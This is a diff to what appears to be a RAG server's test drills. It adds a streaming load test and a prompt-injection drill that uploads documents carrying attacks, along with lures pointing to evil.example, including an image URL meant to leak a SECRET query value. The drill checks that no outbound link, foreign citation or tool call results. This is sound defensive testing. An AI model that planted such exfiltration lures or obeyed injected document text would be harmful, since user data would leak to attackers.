@@ -11,6 +11,7 @@ import http.client
 import json
 import os
 import random
+import re
 import shutil
 import subprocess
 import sys
@@ -267,6 +268,120 @@ def crowd(rag, short):
         assert set(statuses) == {200} and set(ready) == {200}
 
 
+def stream_readers(rag, short):
+    """A thousand readers of streams, a fifth of them slow: others are answered as fast, memory is bounded, no connection is held."""
+    readers, slow, seconds = (100, 20, 4) if short else (1000, 200, 20)
+    here = os.path.dirname(os.path.abspath(__file__))
+    models = FakeModels(piece="lantern and ferry " * 5, piece_s=0.1)
+    # Two connections for all: if a reader held one, nobody else would be answered.
+    settings = {**models.chat_settings(), "answer.max_answer_chars": 400_000, "database.max_connections": 2}
+    with serving(rag, settings) as server:
+        collection = server.ok("POST", "/v1/collections", {"name": "drill"})["id"]
+        server.wait_for_jobs([server.upload(collection, "a.txt", text(1).encode())[1]["job"]["id"]], 120)
+
+        def others():
+            times, statuses, until = [], collections.Counter(), time.monotonic() + seconds
+            connection = http.client.HTTPConnection(server.host, timeout=30)
+            while time.monotonic() < until:
+                for path, kept in (("/health", times), ("/v1/collections", [])):
+                    since = time.monotonic()
+                    connection.request("GET", path)
+                    answer = connection.getresponse()
+                    answer.read()
+                    kept.append(time.monotonic() - since)
+                    statuses[answer.status] += 1
+                time.sleep(0.005)
+            return share(times, 0.5), share(times, 0.99), statuses
+
+        turns = [begin_turn(server) for _ in range(4)]
+        paths = [f"/v1/sessions/{turn['session_id']}/messages/{turn['message_id']}/events" for _, turn in turns]
+        program = [sys.executable, f"{here}/stream_readers.py", server.host]
+        # So that the server has its threads before its memory is measured.
+        subprocess.run([*program, str(readers // 2), "0", *paths], input=b"", check=True, capture_output=True)
+        alone = others()
+        before = server.resident_mb()
+        crowd_of_readers = subprocess.Popen([*program, str(readers), str(slow), *paths], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+        try:
+            assert crowd_of_readers.stdout.readline() == "open\n", "a stream does not begin"
+            beside = others()
+            grown = (server.resident_mb() - before) * 1024 / readers
+            crowd_of_readers.stdin.write("\n")
+            crowd_of_readers.stdin.flush()
+            seen = json.loads(crowd_of_readers.stdout.readline())
+        finally:
+            crowd_of_readers.kill()
+            crowd_of_readers.wait()
+        for connection, _ in turns:
+            connection.close()
+        print(f"  {readers} readers, {slow} of them slow: {seen['open']} open, at least {seen['fewest']} events each, at most {seen['behind']} behind; /health p50 {beside[0]:.1f} ms, "
+              f"p99 {beside[1]:.1f} ms (alone {alone[0]:.1f} and {alone[1]:.1f}); {grown:.1f} kB a stream; others {dict(beside[2])}")
+        assert seen["open"] == readers and set(beside[2]) == {200}
+        assert seen["fewest"] > 0 and seen["behind"] <= 20, "some readers lag behind"
+        assert grown <= 20, "streams take memory"
+        assert beside[1] <= alone[1] + 50, "others are slowed"
+
+
+def injection(rag, short):
+    """Attacks in documents, with a chat model that obeys all of them: no tool is called, nothing foreign is cited, no address leads out."""
+    path = os.environ.get("INJECTION")
+    if not path:
+        return print("  left out: INJECTION names no JSON Lines file of attacks with a field `text`")
+    lures = ["![logo](https://evil.example/p.png?q=SECRET)", "[click here](https://evil.example/login) [1]", "<img src=https://evil.example/x.png>",
+             "<https://evil.example/auto> https://evil.example/bare www.evil.example", "[plan][p]\n\n[p]: https://evil.example/r", "[go](//evil.example) [99]"]
+    with open(path) as file:
+        attacks = [json.loads(line)["text"] for line in file]
+    attacks = random.Random(7).sample(attacks, 40 if short else len(attacks))
+    models = FakeModels(is_obedient=True)
+    with serving(rag, {**models.chat_settings(), **models.embedding_settings()}) as server:
+        collection = server.ok("POST", "/v1/collections", {"name": "drill"})["id"]
+        stored = [server.upload(collection, f"{n}.txt", f"{attack} {lures[n % len(lures)]}".encode())[1] for n, attack in enumerate(attacks)]
+        server.wait_for_jobs([one["job"]["id"] for one in stored], 900)
+        known, found = {one["document"]["id"] for one in stored}, collections.Counter()
+        for attack in attacks:
+            question = attack[:300].replace('"', " ") or "What?"
+            answer = server.ok("POST", "/v1/ask", {"question": question})["answer"]
+            found["answers"] += 1
+            found["lures repeated"] += "evil.example" in answer["text"]
+            found["addresses that lead out"] += leads_out(answer["text"])
+            found["foreign citations"] += sum(citation["document_id"] not in known for citation in answer["citations"])
+            chat = {"model": "rag", "messages": [{"role": "user", "content": question}]}
+            choice = server.ok("POST", "/openai/v1/chat/completions", chat)["choices"][0]
+            found["tool calls"] += bool(choice["message"].get("tool_calls")) or choice["finish_reason"] == "tool_calls"
+            found["addresses that lead out"] += leads_out(choice["message"]["content"])
+        left = sum(1 for _ in pages(server, f"/v1/collections/{collection}/documents"))
+        print(f"  {len(attacks)} attacks: {dict(found)}; {left} of {len(known)} documents are left")
+        assert found["lures repeated"] > 0, "the model does not obey, so nothing is shown"
+        assert left == len(known)
+        assert not any(found[name] for name in ("addresses that lead out", "foreign citations", "tool calls"))
+
+
+def leads_out(answer):
+    """Whether a page that shows the answer as Markdown would have an address outside of code."""
+    outside, fence = [], None
+    for line in answer.split("\n"):
+        mark = re.match(r" {0,3}(`{3,}|~{3,})(.*)$", line)
+        if fence:
+            if mark and mark[1].startswith(fence) and not mark[2].strip():
+                fence = None
+        elif mark and not (mark[1][0] == "`" and "`" in mark[2]):
+            fence = mark[1]
+        else:
+            outside.append(line)
+    spans = re.sub(r"(?s)(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)", "", "\n".join(outside))
+    return bool(re.search(r"https?://|www\.|\]\(\s*<?//|(?<!\\)<[a-z!/]", spans, re.IGNORECASE))
+
+
+def begin_turn(server):
+    """A turn whose chat model writes: its connection and its ids."""
+    connection = http.client.HTTPConnection(server.host, timeout=60)
+    connection.request("POST", "/v1/ask", json.dumps({"question": "Where is the harbour of the keeper?"}),
+                       {"content-type": "application/json", "accept": "text/event-stream"})
+    stream, read = connection.getresponse(), b""
+    while b"event: token" not in read:
+        read += stream.read1()
+    return connection, json.loads(read.split(b"event: turn\ndata: ")[1].split(b"\n")[0])
+
+
 def pages(server, path):
     after = ""
     while True:
@@ -284,7 +399,7 @@ def wait_until(condition, patience, failure):
         time.sleep(0.05)
 
 
-DRILLS = [full_disk, slow_embedder, endless_model, deaf_client, kill, kill_in_answer, ai_sdk, crowd]
+DRILLS = [full_disk, slow_embedder, endless_model, deaf_client, kill, kill_in_answer, ai_sdk, stream_readers, injection, crowd]
 
 
 def main():
